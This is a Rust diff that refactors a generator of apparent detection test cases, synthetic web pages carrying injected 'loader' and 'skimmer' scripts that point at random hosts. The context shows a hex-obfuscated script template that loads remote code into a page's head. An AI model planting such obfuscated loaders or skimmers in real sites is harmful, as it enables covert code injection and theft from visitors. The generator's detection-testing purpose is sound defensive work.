@@ -48,19 +48,22 @@ pub(crate) fn cases(chance: &mut Chance) -> Vec<Case> {
         for form in forms {
             let (host, url) = (host(chance), url(chance));
             let code = form.replace("{H}", &host).replace("{U}", &url);
-            cases.push(Case::page(chance, "scripts", kind, RULE, placed(chance, code)));
+            let parts = placed(chance, code);
+            cases.push(Case::page(chance, "scripts", kind, RULE, parts));
         }
     }
     for way in 0..6 {
         for _ in 0..2 {
             let code = loader(chance, way);
-            cases.push(Case::page(chance, "scripts", "loader", RULE, placed(chance, code)));
+            let parts = placed(chance, code);
+            cases.push(Case::page(chance, "scripts", "loader", RULE, parts));
         }
     }
     for _ in 0..2 {
         let host = host(chance);
         let code = skimmer(&host);
-        cases.push(Case::page(chance, "scripts", "skimmer", RULE, placed(chance, code)));
+        let parts = placed(chance, code);
+            cases.push(Case::page(chance, "scripts", "skimmer", RULE, parts));
     }
     cases
 }
@@ -91,10 +94,11 @@ fn loader(chance: &mut Chance, way: usize) -> String {
             hexed(&format!("<script src='{url}'></script>"))
         ),
         4 => {
-            let words: Vec<String> = ["createElement", "script", "src", &url, "appendChild", "head"]
-                .iter()
-                .map(|word| format!("\"{}\"", hexed(word)))
-                .collect();
+            let words: Vec<String> =
+                ["createElement", "script", "src", &url, "appendChild", "head"]
+                    .iter()
+                    .map(|word| format!("\"{}\"", hexed(word)))
+                    .collect();
             let array = format!("_0x{}", chance.digits(4));
             format!(
                 "<script>var {array}=[{}];var {name}=document[{array}[0]]({array}[1]);{name}[{array}[2]]={array}[3];document[{array}[5]][{array}[4]]({name});</script>",
